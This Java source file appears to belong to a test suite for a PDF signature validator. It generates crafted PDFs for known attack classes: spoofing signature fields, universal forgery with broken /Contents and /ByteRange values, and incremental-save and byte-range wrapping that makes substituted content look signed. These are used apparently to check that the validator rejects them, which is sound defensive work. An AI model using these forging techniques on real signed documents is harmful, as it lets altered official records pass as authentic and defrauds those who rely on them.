package org.motcua.signing.revision;

import static org.motcua.signing.revision.AttackTarget.EVIL_CONTENT;
import static org.motcua.signing.revision.AttackTarget.RESOURCES;
import static org.motcua.signing.revision.AttackTarget.WIDGETS;
import static org.motcua.signing.revision.AttackTarget.form;
import static org.motcua.signing.revision.AttackTarget.page;
import static org.motcua.signing.revision.AttackTarget.signature;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Function;

/** Attacks by the signature dictionary: spoofing, universal forgery, and wrapping by other byte ranges. */
final class SignatureAttacks {

    private static final int ROOM = 3_000;
    private static final String RESERVED = "0000000001 0000000002 0000000003 0000000004";

    private final Map<String, Function<AttackTarget, byte[]>> attacks = new LinkedHashMap<>();

    private SignatureAttacks() {
        spoofing();
        universalForgery();
        wrapping();
    }

    static Map<String, Function<AttackTarget, byte[]>> all() {
        return new SignatureAttacks().attacks;
    }

    private void spoofing() {
        for (String said : new String[] {"/Reason (Dong y)", "/Name (Nguoi khac)", "/M (D:20200101000000Z)"}) {
            attacks.put(
                    "signature says " + said.substring(0, said.indexOf(' ')) + " anew",
                    target -> target.update()
                            .object(
                                    20,
                                    signature(
                                            "/ByteRange " + target.byteRange(),
                                            "/Contents " + target.contents() + said))
                            .bytes());
        }
        attacks.put(
                "signature under another field",
                target -> target.update()
                        .object(7, Draft.LEADER + " /AP << /N 22 0 R >>")
                        .object(8, Draft.AGENCY + " /AP << /N 22 0 R >> /V 20 0 R")
                        .bytes());
    }

    private void forgery(String name, Function<AttackTarget, String> dictionary) {
        attacks.put(
                "forgery, " + name,
                target -> target.update().object(20, dictionary.apply(target)).stream(4, "", EVIL_CONTENT)
                        .bytes());
    }

    private void universalForgery() {
        for (String contents :
                new String[] {"", "/Contents null", "/Contents <>", "/Contents <00>", "/Contents 20 0 R"}) {
            forgery(
                    contents.isEmpty() ? "no /Contents" : contents,
                    target -> signature("/ByteRange " + target.byteRange(), contents));
        }
        for (String range : new String[] {
            "",
            "/ByteRange null",
            "/ByteRange []",
            "/ByteRange [0 0 0 0]",
            "/ByteRange [0 10 20]",
            "/ByteRange [0 -10 -10 -10]",
            "/ByteRange [0 99999999999 99999999999 1]"
        }) {
            forgery(
                    range.isEmpty() ? "no /ByteRange" : range,
                    target -> signature(range, "/Contents " + target.contents()));
        }
    }

    private void wrapping() {
        attacks.put("wrapping, the second range moved", SignatureAttacks::movedSecondRange);
        attacks.put(
                "wrapping, the old range over a longer file",
                target -> target.update().stream(4, "", EVIL_CONTENT)
                        .object(20, signature("/ByteRange " + target.byteRange(), "/Contents " + target.contents()))
                        .bytes());
        attacks.put("wrapping, a signature that ends too early", target -> second(target, Part.END));
        attacks.put("wrapping, a signature that begins too late", target -> second(target, Part.BEGINNING));
        attacks.put("wrapping, a signature with a wide gap", target -> second(target, Part.GAP));
    }

    /**
     * What was signed behind the value moves to the end of the file; where readers look for the cross-reference table now
     * stands another one, which leads to other content and to the range as it is now.
     */
    private static byte[] movedSecondRange(AttackTarget target) {
        byte[] signed = target.signed();
        int[] range = target.range();
        int section = (int) Draft.last(java.util.regex.Pattern.compile("startxref\\s+(\\d+)"), signed);
        String later = text(Arrays.copyOfRange(signed, range[1], signed.length));
        // The table is longer by the entries of two objects, which take the place of the signed ones.
        int objects = section + later.length() + 200;
        String content = "4 0 obj\n<< /Length " + EVIL_CONTENT.length() + " >>\nstream\n" + EVIL_CONTENT
                + "\nendstream\nendobj\n";
        int signature = objects + content.length();
        int rest = signature + target.contents().length() + 400;
        int kept = range[1] + later.indexOf("\nendobj");
        String table = later.substring(section - range[1], later.indexOf("trailer"));
        table = entry(entry(table, 4, objects), 20, signature);
        int shift = rest - range[1];
        for (int number = 21; number <= 27; number++) {
            table = entry(table, number, shift + offset(table, number));
        }
        String trailer = later.substring(later.indexOf("trailer"), later.indexOf("startxref"));
        String value = "20 0 obj\n<< "
                + signature(
                        "/ByteRange [0 " + range[0] + " " + rest + " " + range[2] + "]",
                        "/Contents " + target.contents())
                + " >>\nendobj\n";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(signed, 0, kept);
        pad(out, section);
        out.writeBytes(latin(table + trailer));
        pad(out, objects);
        out.writeBytes(latin(content + value));
        pad(out, rest);
        out.write(signed, range[1], range[2]);
        return out.toByteArray();
    }

    private static int offset(String table, int number) {
        int at = table.indexOf("\n" + number + " 1\n") + ("\n" + number + " 1\n").length();
        return Integer.parseInt(table.substring(at, at + 10));
    }

    private static String entry(String table, int number, int offset) {
        String head = "\n" + number + " 1\n";
        int at = table.indexOf(head) + head.length();
        return table.substring(0, at) + String.format("%010d", offset) + table.substring(at + 10);
    }

    private static void pad(ByteArrayOutputStream out, int length) {
        while (out.size() < length) {
            out.write(out.size() + 1 == length ? '\n' : ' ');
        }
    }

    private enum Part {
        BEGINNING,
        GAP,
        END
    }

    /** Another content and a further signature that leaves it out. */
    private static byte[] second(AttackTarget target, Part leftOut) {
        byte[] pdf = target
                .update()
                .object(3, page(RESOURCES, WIDGETS + " 31 0 R").replace("4 0 R", "32 0 R"))
                .object(5, form(" 31 0 R"))
                .object(
                        30,
                        "/Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [" + RESERVED
                                + "] /Contents <" + "0".repeat(ROOM) + ">")
                .object(
                        31,
                        "/Type /Annot /Subtype /Widget /FT /Sig /T (wrapped) /F 132 /P 3 0 R /Rect [0 0 0 0]"
                                + " /V 30 0 R")
                .stream(32, "", EVIL_CONTENT)
                .bytes();
        String text = text(pdf);
        int gap = text.lastIndexOf("<" + "0".repeat(ROOM));
        int gapEnd = gap + ROOM + 2;
        int content = text.lastIndexOf("\n32 0 obj");
        int contentEnd = text.indexOf("endobj", content);
        int start = leftOut == Part.BEGINNING ? target.signed().length : 0;
        int second = leftOut == Part.GAP ? contentEnd : gapEnd;
        int end = leftOut == Part.END ? content : pdf.length;
        put(
                pdf,
                text.lastIndexOf(RESERVED),
                String.format("%010d %010d %010d %010d", start, gap - start, second, end - second));
        ByteArrayOutputStream covered = new ByteArrayOutputStream();
        covered.write(pdf, start, gap - start);
        covered.write(pdf, second, end - second);
        StringBuilder value = new StringBuilder("<");
        for (byte b : TestSigner.OFFICE.sign(covered.toByteArray())) {
            value.append(String.format("%02x", b));
        }
        put(pdf, gap, value.toString());
        return pdf;
    }

    private static void put(byte[] pdf, int at, String text) {
        byte[] bytes = latin(text);
        System.arraycopy(bytes, 0, pdf, at, bytes.length);
    }

    private static String text(byte[] pdf) {
        return new String(pdf, StandardCharsets.ISO_8859_1);
    }

    private static byte[] latin(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
